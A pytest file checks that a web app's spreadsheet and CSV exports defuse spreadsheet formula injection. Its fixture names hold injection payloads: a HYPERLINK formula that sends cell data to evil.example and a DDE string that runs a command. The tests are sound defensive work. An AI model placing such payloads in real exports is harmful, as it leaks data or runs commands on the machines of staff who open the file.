"""Names that admins import and text people type stay text in the files staff download: no
cell of the statistics workbook or the case export turns into a formula or a link."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any
from xml.etree import ElementTree as ET

import pytest

from tests.http.case_helpers import report, resident
from tests.http.conftest import Client, Login

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
DISTRICT = '=HYPERLINK("http://evil.example/?"&A2,"点我")'
STREET = "+1+2 街道"
COMMUNITY = "-3 社区"
GRID = "@SUM(1) 网格"
CATEGORY = "=cmd|' /C calc'!A0"
SPOT = {"lat": 30.02, "lng": 120.01}


def box(west: float, south: float, east: float, north: float) -> dict[str, Any]:
    ring = [[west, south], [east, south], [east, north], [west, north], [west, south]]
    return {"type": "Polygon", "coordinates": [ring]}


def feature(code: str, name: str, level: str, parent: str | None) -> dict[str, Any]:
    properties = {"code": code, "name": name, "level": level, "parentCode": parent}
    return {"type": "Feature", "properties": properties, "geometry": box(120.0, 30.0, 120.1, 30.1)}


@pytest.fixture
async def admin(client: Client, login: Login) -> dict[str, str]:
    """An admin who imported a district named like formulas, and renamed a category so."""
    headers = await login("demo-admin")
    regions = [
        feature("900001", DISTRICT, "district", None),
        feature("900001001", STREET, "street", "900001"),
        feature("900001001001", COMMUNITY, "community", "900001001"),
        feature("900001001001001", GRID, "grid", "900001001001"),
    ]
    imported = await client.post(
        "/api/v1/admin/regions/import",
        headers=headers,
        json={"type": "FeatureCollection", "features": regions},
    )
    assert imported.status_code == 201, imported.text
    renamed = await client.patch(
        "/api/v1/admin/categories/sanitation", headers=headers, json={"name": CATEGORY}
    )
    assert renamed.status_code == 200, renamed.text
    await report(client, await resident(client), description="=1+1 @A1 -2 +3", **SPOT)
    return headers


def worksheets(content: bytes) -> tuple[dict[str, bytes], list[str], zipfile.ZipFile]:
    package = zipfile.ZipFile(io.BytesIO(content))
    sheets = {
        name: package.read(name)
        for name in package.namelist()
        if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)
    }
    shared = [
        "".join(t.text or "" for t in si.iter(f"{MAIN}t"))
        for si in ET.fromstring(package.read("xl/sharedStrings.xml")).iter(f"{MAIN}si")
    ]
    return sheets, shared, package


def text_cells(xml: bytes, shared: list[str]) -> dict[str, str]:
    """Cell reference -> text, for the cells stored as text (shared or inline strings)."""
    cells = {}
    for c in ET.fromstring(xml).iter(f"{MAIN}c"):
        v = c.find(f"{MAIN}v")
        if c.get("t") == "s" and v is not None:
            cells[c.get("r", "")] = shared[int(v.text or "0")]
    return cells


async def test_names_that_look_like_formulas_stay_text_in_the_workbook(
    client: Client, admin: dict[str, str]
) -> None:
    answer = await client.get(
        "/api/v1/stats/report.xlsx", headers=admin, params={"region": "900001"}
    )
    assert answer.status_code == 200, answer.text
    sheets, shared, package = worksheets(answer.content)
    for name, xml in sheets.items():
        assert b"<f>" not in xml and b"<f " not in xml, name  # no formula anywhere
        assert b"<hyperlink" not in xml, name  # and no link
    relations = [n for n in package.namelist() if n.startswith("xl/worksheets/_rels/")]
    assert not [n for n in relations if b"/hyperlink" in package.read(n)]  # the charts only
    texts = [text_cells(xml, shared) for xml in sheets.values()]
    title = texts[0]["A1"]
    assert title.startswith(DISTRICT)
    every_text = {value for cells in texts for value in cells.values()}
    assert STREET in every_text  # the district's street, on the by-region sheet
    assert CATEGORY in every_text  # the category, on the by-category sheet


async def test_names_and_text_that_look_like_formulas_are_defused_in_the_case_export(
    client: Client, admin: dict[str, str]
) -> None:
    answer = await client.get(
        "/api/v1/cases/export.csv", headers=admin, params={"region": "900001"}
    )
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    header, [row] = rows[0], rows[1:]
    cell = dict(zip(header, row, strict=True))
    assert cell["类别 Category"] == "'" + CATEGORY
    assert cell["区域 Region"] == "'" + GRID
    assert cell["描述 Description"] == "'=1+1 @A1 -2 +3"
    for value in row:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
